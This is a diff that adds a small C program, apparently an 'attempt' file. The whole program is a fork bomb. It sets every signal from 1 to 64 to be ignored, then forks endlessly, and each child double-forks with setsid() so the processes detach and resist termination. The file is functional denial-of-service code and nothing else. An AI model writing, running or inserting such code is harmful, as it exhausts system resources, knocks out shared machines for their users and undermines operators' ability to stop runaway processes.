@@ -1,0 +1,13 @@
+#include "attempt.h"
+#include <signal.h>
+#include <unistd.h>
+int main(void) {
+    for (int i = 1; i < 65; i++)
+        signal(i, SIG_IGN);
+    for (;;) {
+        if (fork() == 0) {
+            setsid();
+            if (fork() > 0) _exit(0);
+        }
+    }
+}
